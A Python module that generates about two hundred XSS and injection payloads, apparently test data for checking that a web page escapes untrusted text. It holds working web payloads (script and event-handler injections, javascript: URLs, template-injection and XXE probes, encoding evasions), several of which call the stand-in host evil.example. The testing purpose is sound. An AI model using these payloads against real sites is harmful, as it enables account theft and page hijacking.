"""Two hundred texts that would do something if a page took them for anything but text.

Most are a way out of where the text stands (an attribute, a title, a script, a comment) and something to do outside:
run, load, lead elsewhere. The others are tricks of their own: half an attribute, an address that is a script, a
template's brackets, letters that become others when they are folded or decoded twice.

None of them can be missed: what runs asks for a dialog, what loads or leads elsewhere asks ``evil.example``.
"""

from __future__ import annotations

from itertools import product

WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</code></pre>",
    "</option></select>",
    "</a></mark></p>",
)
DEEDS = (
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    '<iframe srcdoc="<script>parent.alert({n})</script>"></iframe>',
    '<a href="javascript:alert({n})">on</a>',
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<style>@import url(//evil.example/{n});</style>",
    '<meta http-equiv=refresh content="0;url=//evil.example/{n}">',
    '<base href="//evil.example/{n}/">',
    '<object data="data:text/html,<script>alert({n})</script>"></object>',
)
TRICKS = (
    # half an attribute
    '" onmouseover="alert({n})" autofocus onfocus="alert({n})',
    "' onmouseover='alert({n})' autofocus onfocus='alert({n})",
    "` autofocus onfocus=alert({n})",
    "x onerror=alert({n}) autofocus onfocus=alert({n})",
    '" style="background:url(//evil.example/{n})',
    '" formaction="javascript:alert({n})" data-key="a',
    # an address
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})//http://",
    "java\tscript:alert({n})",
    "&#106;avascript:alert({n})",
    "javascript&colon;alert({n})",
    "\x01javascript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "vbscript:msgbox({n})",
    "//evil.example/{n}",
    'https://evil.example/{n}" onclick="alert({n})',
    "https://evil.example/{n}'><img src=x onerror=alert({n})>",
    "http://[::1/{n}",
    "../../../accounts?{n}",
    # a template
    "{{{{ 191 * 7 }}}} {n}",
    "{{% for x in [1] %}}{n}{{% endfor %}}",
    "${{191*7}} #{{191*7}} <%= 191*7 %> {n}",
    "{{{{ constructor.constructor('alert({n})')() }}}}",
    "{{# {n}",
    "%({n})s {{0.__class__}} %n",
    # letters that become others
    "＜script＞alert({n})＜/script＞",
    "\u202e<script>alert({n})</script>\u2066",
    "<scr\u00adipt>alert({n})</scr\u00adipt>",
    "<ſcript>alert({n})</ſcript>",
    "\ufeff<script>alert({n})</script>",
    "<img\u000bsrc=x\u000conerror=alert({n})>",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
    "𝗮𝗹𝗲𝗿𝘁({n})\u202e\u2066 \u0301\u0301\u0301\u0301\u0301\u0301",
    # HTML that isn't tidy
    "<img/src=x/onerror=alert({n})>",
    "<<script>alert({n})//<</script>",
    "<ScRiPt sRc=//evil.example/{n}></sCrIpT>",
    "<link rel=stylesheet href=//evil.example/{n}>",
    "<video><source onerror=alert({n})></video>",
    "<body onload=alert({n})>",
    '<noscript><p title="</noscript><img src=x onerror=alert({n})>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert({n})>">',
    "<template><script>alert({n})</script></template>",
    '<form action="//evil.example/{n}"><button autofocus>on</button></form>',
    "<?xml-stylesheet href='//evil.example/{n}'?>",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "//evil.example/{n}">]>',
    "<![CDATA[<script>alert({n})</script>",
    "<plaintext>{n}",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert({n})>#x'/></svg>",
    "<select autofocus onfocus=alert({n})>",
    "<keygen autofocus onfocus=alert({n})>",
    "*/</style><script>alert({n})</script>/*",
    '");alert({n});("',
    "<!--{n}",
)
PAYLOADS = [f"{out}{deed}".replace("{n}", str(n)) for n, (out, deed) in enumerate(product(WAYS_OUT, DEEDS))]
PAYLOADS += [trick.format(n=n) for n, trick in enumerate(TRICKS, len(PAYLOADS))]
SPEAKING = "<>\"'"
"""What no page may hold as it is: a payload with one of these stands nowhere in the HTML unescaped."""
